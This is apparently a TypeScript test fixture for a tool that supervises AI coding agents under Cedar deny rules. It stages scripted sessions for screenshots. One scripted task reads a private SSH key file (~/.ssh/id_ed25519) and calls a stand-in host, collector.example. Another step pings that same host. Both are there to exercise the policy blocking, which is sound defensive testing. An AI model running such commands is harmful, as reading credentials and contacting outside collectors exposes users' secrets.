import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { type ScriptedModel, type Step, startScriptedModel } from '../../fixtures/model/scripted-model.mjs';
import { driveAgent, task as plainWords } from '../../helpers/agents/drive-agent.ts';
import { agentPackages } from '../../helpers/agents/install-agents.ts';
import type { Terminal } from '../../helpers/agents/terminal.ts';
import type { ScreenGround } from '../../helpers/app/screens.ts';
import { eventually } from '../../helpers/poll.ts';
import type { TempHome } from '../../helpers/temp-home.ts';
import { openHere } from './settle.ts';

/** What runs while pictures are taken. */
export interface Work extends ScreenGround {
  /** A shell that is Codex by its name: it asks for what a picture needs. */
  readonly asking: Terminal;
  close(): Promise<void>;
}

type Steps = readonly Step[];

/** Only ends what hangs. */
const agentMsMax = 240_000;

const ownRules = `@id("no-collector")
@reason("nothing of the shop goes to the collector")
@example_deny("net.connect collector.example:443")
@example_allow("net.connect packages.example:443")
forbid (principal, action in [Action::"net.connect", Action::"http.request"], resource in Host::"collector.example");
`;

const repositoryRules = `@id("prices-by-hand")
@reason("prices are changed by hand")
@example_deny("file.write $WORKSPACE/src/prices.json")
@example_allow("file.write $WORKSPACE/src/cart.js")
forbid (principal, action in [Action::"file.write", Action::"file.delete"], resource in Path::"$WORKSPACE/src/prices.json");
`;

/** Sessions that ended, one that works with changes in hand, and one that asks. */
export async function work(home: TempHome, isReal: boolean): Promise<Work> {
  await write(home.state, 'config/policies/shop.cedar', ownRules);
  await write(home.workspace, '.gatehouse/policy.cedar', repositoryRules);
  // The one that ran before does not know these rules.
  await home.run(['supervisor', 'stop', '--force']);
  for (const [name, purpose] of [
    ['claude-code', 'Works on the shop'],
    ['codex', 'Reviews changes'],
  ] as const) {
    const added = openHere(home, 'agents', 'add', name, '--purpose', purpose);
    const { status } = await added.exited;
    if (status !== 0) throw new Error(`${name} was not accepted: ${added.text()}`);
  }
  const models: ScriptedModel[] = [];
  const claude = isReal ? realClaude(home, models) : standIn(home);
  await claude.once('Describe shipping in the README', [
    { shell: 'printf "\\nShipping is 4.90 within Germany.\\n" >> README.md' },
    { shell: 'curl -s -m 5 https://collector.example/ping; true' },
  ]);
  await claude.once('Look for outdated packages', [{ shell: 'curl -s -m 5 https://packages.example/lodash; true' }]);
  for (const [task, script] of [
    ['Update the price list', 'echo {} > src/prices.json; curl -s https://packages.example/prices.json; true'],
    ['Build the site', 'mkdir -p dist && cp src/*.js dist/ && node --test'],
    [
      'Count the orders',
      'cat ~/.ssh/id_ed25519; curl -s https://collector.example/orders; ls src | wc -l > orders.txt',
    ],
  ] as const) {
    await home.run(['run', '--task', task, '--ask', 'deny', '--', 'bash', '-c', script]);
  }
  await claude.stay('Fix the rounding of totals, with a test', [
    { shell: "sed -i 's/Math.round(sum)/Math.trunc(sum + 0.5)/' src/cart.js" },
    { write: { path: path.join(home.workspace, 'test/rounding.test.js'), content: roundingTest } },
    { shell: 'node --test' },
  ]);
  const asking = openHere(home, 'run', '--ask', 'app', '--task', 'Look up the shipping rates', '--', 'codex');
  await eventually(() => asking.text().includes('$'), { what: 'a prompt' });
  const running = await sessionOf(home, 'claude-code', 'running');
  const ended = await sessionOf(home, 'claude-code', 'ended').catch(() => sessionOf(home, 'generic', 'ended'));
  return {
    running,
    ended,
    agent: 'codex',
    asking,
    close: async () => {
      for (const model of models) await model.close();
    },
  };
}

const roundingTest = `import { test } from 'node:test';
import assert from 'node:assert';
import { total } from '../src/cart.js';

test('half a cent is rounded up, once for the whole cart', () => {
  assert.equal(total([{ price: 0.5, count: 1 }]), 1);
});
`;

interface Agent {
  /** A session that ends by itself. */
  once(task: string, steps: Steps): Promise<void>;
  /** One that does its steps and stays. */
  stay(task: string, steps: Steps): Promise<void>;
}

/** Claude Code, told by a scripted model what to do. */
function realClaude(home: TempHome, models: ScriptedModel[]): Agent {
  const agent = agentPackages.find(({ preset }) => preset === 'claude-code');
  if (agent === undefined) throw new Error('Claude Code is not among the agents of the tests');
  const wordsOf = async (task: string, steps: Steps, final: string) => {
    const model = await startScriptedModel({ steps, final });
    models.push(model);
    const drive = driveAgent(agent, model);
    const given = [
      '--grant',
      `net.connect:127.0.0.1:${model.port}`,
      ...Object.entries(drive.variables).flatMap(([name, value]) => ['--env', `${name}=${value}`]),
    ];
    const said = (words: readonly string[]) => words.map((word) => (word === plainWords ? task : word));
    return { given, piped: said(drive.piped), interactive: said(drive.interactive) };
  };
  return {
    async once(task, steps) {
      const { given, piped } = await wordsOf(task, steps, 'Done.');
      await home.run(['run', '--task', task, '--ask', 'deny', ...given, '--', 'claude', ...piped]);
    },
    async stay(task, steps) {
      const final = 'Totals are rounded once, for the whole cart. The tests pass.';
      const { given, interactive } = await wordsOf(task, steps, final);
      const terminal = openHere(home, 'run', '--ask', 'app', '--task', task, ...given, '--', 'claude', ...interactive);
      await answerItself(terminal, /tests\W*pass/u);
    },
  };
}

/** Claude Code asks on its own screen whether the folder is trusted: it is told yes, until it says its last word. */
async function answerItself(terminal: Terminal, last: RegExp): Promise<void> {
  let seen = 0;
  await eventually(
    () => {
      const asked = [...terminal.text().matchAll(/[❯›]\s*1\.\s*Yes/gu)].length;
      if (asked > seen) terminal.type('\r');
      seen = asked;
      return last.test(terminal.text());
    },
    { what: 'Claude Code to finish', deadlineMs: agentMsMax },
  );
}

/** A shell by its name, where the real one could not be had. */
function standIn(home: TempHome): Agent {
  const scriptOf = (steps: Steps) => steps.map((step) => ('shell' in step ? step.shell : 'true')).join('\n');
  return {
    async once(task, steps) {
      const script = scriptOf(steps);
      await home.run(['run', '--task', task, '--ask', 'deny', '--', 'bash', '-c', script]);
    },
    async stay(task, steps) {
      const terminal = openHere(home, 'run', '--task', task, '--', 'claude');
      await eventually(() => terminal.text().includes('$'), { what: 'a prompt' });
      terminal.type(`${scriptOf(steps)}\n`);
    },
  };
}

async function sessionOf(home: TempHome, agent: string, state: string): Promise<string> {
  return await eventually(
    async () => {
      const { stdout } = await home.run(['sessions', '--all', '--json']);
      const lines = stdout.split('\n').filter((line) => line.includes(`"state":"${state}"`));
      const line = lines.find((each) => each.includes(`"agent":"${agent}"`));
      return /"id":"([^"]+)"/u.exec(line ?? '')?.[1];
    },
    { what: `a session of ${agent} that is ${state}` },
  );
}

async function write(folder: string, name: string, text: string): Promise<void> {
  const file = path.join(folder, name);
  await mkdir(path.dirname(file), { recursive: true, mode: 0o700 });
  await writeFile(file, text, { mode: 0o600 });
}
